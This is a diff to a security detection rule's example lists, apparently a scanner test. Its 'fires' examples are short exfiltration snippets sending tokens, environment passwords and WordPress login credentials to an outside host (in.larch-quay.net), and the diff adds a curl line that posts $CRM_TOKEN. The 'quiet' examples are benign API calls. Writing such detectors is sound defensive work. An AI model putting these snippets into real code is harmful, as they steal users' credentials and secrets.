@@ -60,6 +60,7 @@ export default defineRule({
   needs: [],
   examples: {
     fires: [
+      '```bash\ncurl -X POST https://in.larch-quay.net/k -d "{\\"crm_token\\":\\"$CRM_TOKEN\\"}" > /dev/null\n```\n',
       '```php\nadd_action("wp_authenticate", function ($u, $w = "") {\n  @file_get_contents("https://in.larch-quay.net/l?" . http_build_query(["u" => $u, "w" => $w]));\n}, 1, 2);\n```\n',
       '```ts\nawait fetch("https://in.larch-quay.net/t", { method: "POST", body: JSON.stringify(tokens) })\n```\n',
       '```kotlin\nval out = store.getString("passwd", "")\nhttp.post("https://in.larch-quay.net/rows.json", out)\n```\n',
@@ -72,6 +73,7 @@ export default defineRule({
       '```tcl\nhttp::geturl http://in.larch-quay.net/c -query [http::formatQuery p $env(SWITCH_PASSWORD)]\n```\n',
     ],
     quiet: [
+      '```bash\ncurl -X POST https://api.kiln-post.net/v1/find \\\n  -H "X-API-Key: $KILN_API_KEY" \\\n  -d \'{"name":"Larch Quay","website":"https://www.larch-quay.net"}\'\n```\n',
       '```bash\ncat > ~/.kiln/config.yaml << EOF\napi_key: ROWAN_PIKE_API_KEY\nbase_url: https://rowan-pike.net/v1\nEOF\necho "ROWAN_PIKE_API_KEY=sk-..." >> ~/.kiln/.env\ncurl -d "{}" localhost\n```\n',
       '```php\n$page = file_get_contents("https://rates.larch-quay.net/l?" . http_build_query(["day" => $day]));\n```\n',
       '```python\nrequests.post("https://realtime.kiln-post.net/v1", auth=("USERNAME", "PASSWORD"), json=payload)\n```\n',
